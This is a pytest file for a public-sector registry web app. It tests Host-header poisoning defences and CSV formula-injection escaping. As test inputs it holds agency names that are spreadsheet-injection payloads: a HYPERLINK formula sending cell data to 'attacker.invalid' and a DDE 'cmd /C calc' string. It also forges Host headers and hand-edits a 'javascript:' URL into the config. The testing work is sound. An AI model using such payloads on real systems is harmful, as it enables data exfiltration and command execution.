"""Links that get kept (feeds, QR codes, open data, document look-ups) come from the configured
public URL or the bound address, never from the request's Host; and no CSV cell the site
serves is a formula, even for an agency that names itself like one. A real HTTP server, a real
registry and agencies registered through it."""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import segno
from pakta_support import (
    PACT_DOCUMENT,
    Agent,
    Harness,
    LiveServer,
    declaration_body,
    envelope_bytes,
    new_instance,
    pact_body,
)

from keys.note import NoteVerifier
from registry.service import open_service
from registry.write.instance import Instance, InstanceError, load_instance
from web import close_app, create_app
from web.opendata import FORMULA_START, csv_cell

HOSTILE_HOSTS = ("evil.example", "evil-forwarded.example")
FORMULA_NAMES = [
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
PUBLIC = "https://pakta.example.go.id"


def _registered(instance: Instance) -> None:
    """Agencies with formula names, one with a pact and a document, in region 33.11."""
    service = open_service(instance)
    try:
        harness = Harness(service.registry)
        for i, name in enumerate(FORMULA_NAMES):
            agent = Agent(f"pemkab-rumus-{i}")
            payload = agent.statement(
                "agency.registered",
                {
                    "name": name,
                    "kind": "pemerintah_kabupaten",
                    "parent": None,
                    "region": {"kemendagri": "33.11", "bps": "3311", "name": "Kab. Sukoharjo"},
                    "keys": [agent.key_grant()],
                },
            )
            service.registry.submit(envelope_bytes(payload, harness.registrar))
            agent.accepted(payload)
            harness.post(agent, "integrity_pact.signed", pact_body(), documents=[PACT_DOCUMENT])
            # A declaration makes it a unit: the units file holds its name too.
            harness.post(agent, "zi.declared", declaration_body(), documents=[PACT_DOCUMENT])
    finally:
        service.close()


@pytest.fixture(params=[None, PUBLIC], ids=["bound-address", "public-url"])
def live(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[LiveServer, str]]:
    instance = new_instance(tmp_path / "instance", f"sqlite:///{tmp_path / 'pakta.sqlite3'}")
    if request.param:
        instance.public_url = request.param  # as an operator sets public_url in config.json
        instance.save()
    _registered(instance)
    app = create_app({"PAKTA_INSTANCE": str(instance.path)})
    server = LiveServer(app)
    try:
        yield server, request.param or server.url
    finally:
        server.close()
        close_app(app)


def get(server: LiveServer, path: str) -> tuple[int, bytes]:
    """GET `path` with a forged Host and X-Forwarded-Host, as a cache-poisoning attacker."""
    host, port = server.url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.putrequest("GET", path, skip_host=True)
        conn.putheader("Host", HOSTILE_HOSTS[0])
        conn.putheader("X-Forwarded-Host", HOSTILE_HOSTS[1])
        conn.putheader("Forwarded", f"host={HOSTILE_HOSTS[1]}")
        conn.endheaders()
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


LINKED = [
    "/feed.atom",
    "/agencies/pemkab-rumus-0/feed.atom",
    "/regions/33/feed.atom",
    "/regions/33.11/feed.atom",
    "/open-data/statements.csv",
    "/open-data/statements.jsonl",
    "/api/v1/documents/" + PACT_DOCUMENT["sha256"],
    "/entries/1",
]
PAGES = ["/", "/agencies", "/agencies/pemkab-rumus-0", "/regions/33.11", "/open-data", "/about"]


@pytest.mark.integration
def test_a_forged_host_never_reaches_a_link(live: tuple[LiveServer, str]) -> None:
    server, base = live
    units = ["/open-data/units.csv", "/open-data/units.json"]
    for path in LINKED + PAGES + units + ["/entries/1/qr.svg", "/api/v1/entries/1", "/api/v1/log"]:
        status, body = get(server, path)
        assert status == 200, (path, status)
        for hostile in HOSTILE_HOSTS:
            assert hostile.encode() not in body.lower(), path
    for path in LINKED:
        assert (base + "/entries/").encode() in get(server, path)[1], path
    # No redirect is built on the Host header either (Werkzeug's slash fixing is off).
    for path in ("//feed.atom", "/agencies//pemkab-rumus-0", "/api//v1/log", "/about/"):
        status, body = get(server, path)
        assert status in (200, 404) and HOSTILE_HOSTS[0].encode() not in body, path
    # The QR code is the entry's address on the public base, exactly, with the charter's
    # anchor (leaf hash, log key hash) in the fragment (verified views).
    leaf = json.loads(get(server, "/api/v1/entries/1/proof")[1])["leaf_hash"]
    vkey = NoteVerifier.parse(get(server, "/log-key")[1].decode().strip())
    fragment = f"leaf={leaf}&log={hashlib.sha256(vkey.public_key).hexdigest()}"
    qr = segno.make(base + "/entries/1#" + fragment, error="m")
    expected = io.BytesIO()
    qr.save(expected, kind="svg", scale=4, border=4, xmldecl=False, title="Pakta #1")
    assert get(server, "/entries/1/qr.svg")[1] == expected.getvalue()


@pytest.mark.integration
def test_open_data_cells_are_never_formulas(live: tuple[LiveServer, str]) -> None:
    server, base = live
    rows = list(csv.DictReader(io.StringIO(get(server, "/open-data/statements.csv")[1].decode())))
    names = [r["agency_name"] for r in rows if r["type"] == "agency.registered"]
    assert names == ["'" + name for name in FORMULA_NAMES]
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row
        assert row["entry_url"] == f"{base}/entries/{row['index']}"
        assert row["checkpoint_url"] == f"{base}/checkpoints/{row['checkpoint_size']}"
    units = list(csv.DictReader(io.StringIO(get(server, "/open-data/units.csv")[1].decode())))
    assert sorted(u["name"] for u in units) == sorted("'" + name for name in FORMULA_NAMES)
    for row in units:
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row
        assert row["unit_url"] == f"{base}/agencies/{row['unit']}"
        assert row["checkpoint_url"] == f"{base}/checkpoints/{row['checkpoint_size']}"
    as_json = json.loads(get(server, "/open-data/units.json")[1])["units"]
    assert sorted(u["name"] for u in as_json) == sorted(FORMULA_NAMES)
    # JSON is no spreadsheet: the JSON Lines file keeps the name as registered.
    lines = get(server, "/open-data/statements.jsonl")[1].splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["agency_name"] for r in records if r["type"] == "agency.registered"] == (
        FORMULA_NAMES
    )


def test_csv_cell_neutralises_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("Pemerintah =1") == "Pemerintah =1"
    assert csv_cell(None) == "" and csv_cell(-5) == -5 and csv_cell("") == ""


def test_the_public_url_is_set_at_init_and_checked(tmp_path: Path) -> None:
    from web.__main__ import main

    folder = tmp_path / "instance"
    assert main(["--instance", str(folder), "init", "--public-url", PUBLIC + "/"]) == 0
    assert json.loads((folder / "config.json").read_text())["public_url"] == PUBLIC
    assert load_instance(folder).public_url == PUBLIC
    for bad in ("ftp://x.example", "https://", "https://x.example/?a=1", "https://x.example/#f"):
        assert main(["--instance", str(tmp_path / "bad"), "init", "--public-url", bad]) == 1
        assert not (tmp_path / "bad" / "config.json").exists()
    config = json.loads((folder / "config.json").read_text())
    config["public_url"] = "javascript:alert(1)"  # a hand edit is checked on load too
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(InstanceError, match="public URL"):
        load_instance(folder)
